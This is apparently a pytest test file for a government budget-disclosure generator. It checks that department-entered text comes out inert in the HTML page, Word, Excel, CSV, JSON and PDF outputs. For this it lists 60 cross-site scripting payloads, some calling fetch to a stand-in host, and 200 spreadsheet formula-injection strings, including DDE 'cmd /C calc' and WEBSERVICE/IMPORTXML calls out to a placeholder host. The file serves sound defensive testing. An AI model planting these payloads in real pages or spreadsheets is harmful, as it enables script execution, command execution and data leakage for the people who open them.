"""What a department types is text in every form in which it is given out: markup is not markup, a formula is no formula."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from decimal import Decimal

import pypdf
import pytest
from lxml import etree
from openpyxl import load_workbook

from budgets.books import ProjectSheet, PurposeText, Target, Unit
from budgets.catalogue import NOTES
from disclosures.compose import compose
from disclosures.copies import file_names, render_file
from disclosures.document import as_json, digest
from disclosures.rendering.page import VersionLine, render_page
from tests.disclosed import PUBLISHED
from tests.full import full_books
from tests.reading import Reading, pages_of

#: Sixty ways to have a page do something.
MARKUP = [
    template.format(js)
    for js in ("alert(1)", "fetch('//a.b')")
    for template in (
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<img src=x onerror={}>",
        '"><img src=x onerror="{}">',
        "'><svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg/onload={}>",
        "<body onload={}>",
        "<iframe src=javascript:{}></iframe>",
        '<a href="javascript:{}">a</a>',
        "<a href=&#106;avascript:{}>a</a>",
        '<form action="javascript:{}"><input type=submit>',
        "<math><mi xlink:href=javascript:{}>a</mi></math>",
        "<style>@import 'javascript:{}';</style>",
        '<div style="background:url(javascript:{})">a</div>',
        "<details open ontoggle={}>",
        "<video><source onerror={}></video>",
        "<object data=javascript:{}>",
        "<embed src=javascript:{}>",
        '<meta http-equiv=refresh content="0;url=javascript:{}">',
        "<base href=javascript:{}//>",
        "<!--><img src=x onerror={}>-->",
        "<![CDATA[<script>{}</script>]]>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "</title></textarea></style><script>{}</script>",
        "{{{{constructor.constructor('{}')()}}}}",
        "<template><script>{}</script></template>",
        "<table background=javascript:{}><td>",
        "]]>\"'`--><script>{}</script>",
    )
]
#: Two hundred ways to have a spreadsheet do something.
FORMULAS = [
    f"{sign}{body}{n}"
    for n in range(2)
    for sign in ("=", "+", "-", "@", "==", "=-", "+=", "'=", " =", "\t=")
    for body in (
        "1+1",
        'HYPERLINK("http://a.b","a")&',
        "cmd|' /C calc'!A",
        'WEBSERVICE("http://a.b/"&A1)&',
        'IMPORTXML("http://a.b","//a")&',
        "SUM(1+1)*cmd|' /C calc'!A",
        "DDE(\"cmd\",\"/C calc\",\"a\")&",
        'INDIRECT("A1")&',
        "2*3",
        "A1",
    )
]  # fmt: skip


def books_with(texts):
    """A full budget that says each of these in every place where a department may write."""
    lines = "\n".join(texts)

    def project(n, text):
        return ProjectSheet(
            name=f"{text} {n}", amount=Decimal(100), last=None, entered=None, use=text, overview=text, basis=text, body=text,
            plan=text, schedule=text, period=text, goal=text, funds=(None, None, None),
            targets=(Target("产出指标", text, text, text, 100),),
        )  # fmt: skip

    full = full_books()
    return replace(
        full,
        department_name=f"某县教育局{texts[0]}",
        department_short_name=texts[0],
        duties=tuple(texts),
        offices=tuple(texts),
        units=tuple(Unit(text, "institution", "事业", "全额拨款", False, "") for text in texts),
        projects=tuple(project(n, text) for n, text in enumerate(texts)),
        targets=tuple(Target("效益指标", text, text, text, None) for text in texts),
        purchases=tuple(replace(full.purchases[0], name=f"{text} {n}") for n, text in enumerate(texts)),
        stated={key: replace(each, reason=lines) for key, each in full.stated.items()},
        purposes={
            code: PurposeText(texts[n % len(texts)], each.executed, lines)
            for n, (code, each) in enumerate(full.purposes.items())
        },
        notes={note.key: lines for note in NOTES if note.key != "terms"}
        | {"terms": "\n".join(f"名词{n}：{text}" for n, text in enumerate(texts))},
    )


def given_out(texts):
    """(content, page, files) of that budget; the PDF apart, which takes its time."""
    document = compose(books_with(texts)).stamped(
        number=1, published_at=PUBLISHED.isoformat(), reason=texts[0], previous=""
    )
    content = as_json(document)
    sha256 = digest(content)
    line = VersionLine(1, PUBLISHED, texts[0], sha256, is_current=True)
    page = render_page(content, sha256, language="zh-hans", versions=[line])
    names = [name for name in file_names(content) if not name.endswith(".pdf")]
    return content, page, {name: render_file(name, content, sha256) for name in names}


def bare(text):
    return re.sub(r"\s", "", text)


def texts_in(thing):
    """Every text in a piece of JSON."""
    match thing:
        case str():
            yield thing
        case dict():
            for value in thing.values():
                yield from texts_in(value)
        case list():
            for value in thing:
                yield from texts_in(value)


@pytest.fixture(scope="module")
def marked_up():
    return given_out(MARKUP)


@pytest.fixture(scope="module")
def calculating():
    return given_out(FORMULAS)


def test_there_are_as_many_as_promised():
    assert len(set(MARKUP)) == 60 and len(set(FORMULAS)) == 200


def test_a_page_holds_only_its_own_elements_and_says_all_that_was_typed(marked_up):
    _content, page, _files = marked_up
    _plain, plain_page, _plain_files = given_out([f"文字{n}" for n in range(60)])

    def shape(html):
        elements = Reading(html).all("*")
        return {element.tag for element in elements}, {
            name for element in elements for name in element.attrib
        }

    assert shape(page) == shape(plain_page)
    assert not [a for a in Reading(page).all("a[href]") if "script:" in a.get("href")]
    said = bare("".join(Reading(page).root.etree_element.itertext()))
    assert [text for text in MARKUP if bare(text) not in said] == []


def test_the_script_that_a_page_would_run_is_found_by_this_test():
    """The control: one that is not escaped."""
    page = Reading("<p><img src=x onerror=alert(1)></p>")
    assert page.all("img[onerror]")


def test_data_hold_exactly_what_was_typed(marked_up, calculating):
    for texts, (_content, _page, files) in ((MARKUP, marked_up), (FORMULAS, calculating)):
        said = "\n".join(texts_in(json.loads(files["disclosure.json"])))
        assert [text for text in texts if text.strip() not in said] == []


def test_a_word_file_holds_text_and_no_fields(marked_up, calculating):
    _plain, _page, plain = given_out([f"文字{n}" for n in range(200)])
    for texts, (_content, _page, files) in ((MARKUP, marked_up), (FORMULAS, calculating)):
        shown, tags = words_of(files["disclosure.docx"])
        assert tags <= words_of(plain["disclosure.docx"])[1]
        assert [text for text in texts if bare(text) not in bare(shown)] == []


def words_of(data):
    """(its text, the elements in it) of a Word file."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        root = etree.fromstring(package.read("word/document.xml"))
    return "".join(root.itertext()), {element.tag for element in root.iter()}


@pytest.mark.parametrize("given", ["marked_up", "calculating"])
def test_a_workbook_has_no_formula_and_no_link(given, request):
    _content, _page, files = request.getfixturevalue(given)
    book = load_workbook(io.BytesIO(files["disclosure.xlsx"]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 1000
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target] == []


def test_a_workbook_says_what_was_typed(calculating):
    _content, _page, files = calculating
    book = load_workbook(io.BytesIO(files["disclosure.xlsx"]))
    said = {
        cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"
    }
    named = [
        text
        for text in FORMULAS
        if any(isinstance(value, str) and value.startswith(text.strip()) for value in said)
    ]
    assert len(named) == len(FORMULAS)


@pytest.mark.parametrize("given", ["marked_up", "calculating"])
def test_a_table_opened_by_a_spreadsheet_begins_no_formula(given, request):
    _content, _page, files = request.getfixturevalue(given)
    begun = []
    for name, data in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
                begun += [cell for cell in row if re.match(r"[=+@\t\r]|-(?![0-9]+\.[0-9]{2}\Z)", cell)]
    assert begun == []


def test_print_says_what_was_typed_and_carries_nothing_that_runs(fonts, marked_up):
    content, _page, files = marked_up
    pdf = render_file("disclosure.pdf", content, digest(content), files)
    said = bare("".join(pages_of(pdf)))
    # Lines are broken with a hyphen nowhere, but a page may end within a text.
    assert len([text for text in MARKUP if bare(text) in said]) >= len(MARKUP) - 2
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    assert "/OpenAction" not in reader.trailer["/Root"] and "/AcroForm" not in reader.trailer["/Root"]
    actions = {
        str(note.get_object().get("/A", {}).get("/S"))
        for page in reader.pages
        for note in page.get("/Annots", [])
    }
    assert actions <= {"None", "/GoTo", "/URI"}
    assert sorted(reader.attachments) == ["disclosure.json", "disclosure.xlsx"]
